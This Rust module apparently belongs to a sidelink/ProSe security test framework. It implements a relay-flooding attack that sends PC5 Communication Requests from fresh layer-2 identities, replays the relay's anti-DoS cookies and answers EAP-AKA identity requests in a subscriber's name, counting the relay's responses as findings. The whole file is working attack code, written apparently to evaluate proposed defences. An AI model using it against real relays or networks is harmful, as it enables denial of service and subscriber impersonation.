//! A radio that asks a relay for links and lets it ask its network, again and again: T5.1-3 of the proposals' digest.

use super::link::{block, group_of, heard, message, plain};
use super::{Attack, AttackContext, Injection};
use sidelink_network::eap_aka::{Code, Packet, Type, packet};
use sidelink_prose::direct_link::ThroughRelay;
use sidelink_wire::ids::{Layer2Id, Lcid};
use sidelink_wire::pc5_signalling::{self as pc5, AuthenticationPhase, Body, CommunicationRequest, UserInfo};
use std::collections::{BTreeMap, BTreeSet, VecDeque};

/// From which layer-2 identities it asks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Sources {
    /// One.
    One,
    /// Another one for each request.
    Fresh,
}

/// The method octet of a cookie.
const COOKIE: u8 = 0xc0;

/// Octets of a request on the air, at most.
const OCTETS: usize = 64;

/// Blocks in an SC period, at most.
const BLOCKS: usize = 4;

/// The first identity that it asks from; no UE has it.
const FIRST: u32 = 0x30_0000;

/// An attack with its findings.
pub(crate) struct RelayFlood {
    relay: Layer2Id,
    service: [u8; 3],
    /// What it calls itself towards the network.
    user: String,
    sources: Sources,
    own: BTreeSet<Layer2Id>,
    /// What is to be said before another request.
    answers: VecDeque<(Layer2Id, Vec<u8>)>,
    found: BTreeMap<&'static str, u64>,
    drawn: u64,
}

impl RelayFlood {
    /// Asks `relay` for this service, in the name `user` of a subscriber.
    pub(crate) fn new(relay: Layer2Id, service: [u8; 3], user: String, sources: Sources) -> Self {
        let (own, answers, found) = (BTreeSet::new(), VecDeque::new(), BTreeMap::new());
        Self { relay, service, user, sources, own, answers, found, drawn: 0 }
    }

    /// Returns its findings and actions, as names and numbers.
    pub(crate) fn findings(&self) -> BTreeMap<String, u64> {
        self.found.iter().map(|(what, count)| ((*what).to_owned(), *count)).collect()
    }

    fn count(&mut self, what: &'static str) {
        *self.found.entry(what).or_default() += 1;
    }

    fn source(&mut self) -> Option<Layer2Id> {
        let number = if self.sources == Sources::One { 0 } else { self.drawn as u32 };
        let source = Layer2Id::new(FIRST + number % 0x1_0000).ok()?;
        self.own.insert(source);
        Some(source)
    }

    fn request(&mut self, cookie: &[u8]) -> Option<Vec<u8>> {
        self.drawn += 1;
        let mut nonce = [0x66; 16];
        nonce[..8].copy_from_slice(&self.drawn.to_be_bytes());
        let key_info = [&[ThroughRelay::METHOD][..], cookie].concat();
        let request = CommunicationRequest {
            user_info: UserInfo { kind: 1, value: b"ue1" },
            ip_config: 1,
            maximum_inactivity: 4,
            nonce,
            capabilities: pc5::Capabilities { eea: 0xe0, eia: 0xe0 },
            kd_sess_msb: self.drawn as u8,
            kd_id: None,
            relay_service_code: Some(self.service),
            signature: None,
            link_local: None,
            key_info: Some(&key_info),
            connection: None,
            policy: None,
            target: None,
        };
        plain(self.drawn as u16, Body::CommunicationRequest(request))
    }

    /// What it says to a message of the relay.
    fn answer(&mut self, octets: &[u8]) -> Option<Vec<u8>> {
        let Body::Authentication { phase, method, content } = message(octets, 0)?.body else { return None };
        match (phase, method) {
            (AuthenticationPhase::Reject, COOKIE) => {
                self.count("cookies that the relay wants");
                let cookie = content.to_vec();
                self.request(&cookie)
            }
            (AuthenticationPhase::Reject, _) => {
                self.count("refusals of the relay");
                None
            }
            (AuthenticationPhase::Request, ThroughRelay::METHOD) => {
                let request = Packet::new_checked(content).ok()?;
                if request.kind() != Some(Type::Identity) {
                    self.count("challenges heard");
                    return None;
                }
                self.count("requests for an identity heard");
                let said =
                    packet::emit(Code::Response, request.identifier(), Type::Identity, self.user.as_bytes());
                let (content, phase) = (said.ok()?, AuthenticationPhase::Response);
                let body = Body::Authentication { phase, method: ThroughRelay::METHOD, content: &content };
                plain(self.drawn as u16, body)
            }
            _ => None,
        }
    }
}

impl Attack for RelayFlood {
    fn heard(&mut self, _t: u64, group: u8, block: &[u8], _: &mut AttackContext) {
        for pdu in heard(group, block).unwrap_or_default() {
            if pdu.source == self.relay
                && self.own.contains(&pdu.destination)
                && let Some(said) = self.answer(pdu.octets)
            {
                self.answers.push_back((pdu.destination, said));
            }
        }
    }

    fn period(&mut self, _t: u64, context: &mut AttackContext) {
        while context.injections.len() < BLOCKS {
            let (source, pdu) = match self.answers.pop_front() {
                Some((source, pdu)) => (source, Some(pdu)),
                None => {
                    let Some(source) = self.source() else { return };
                    self.count("requests sent");
                    (source, self.request(&[]))
                }
            };
            debug_assert!(OCTETS < context.octets);
            let pdus: Vec<_> = pdu.into_iter().map(|pdu| (Lcid::PC5_S_UNPROTECTED, pdu)).collect();
            let Some(block) = block(source, self.relay, &pdus, context.octets) else { return };
            context.injections.push_back(Injection { group: group_of(self.relay), block });
        }
    }
}
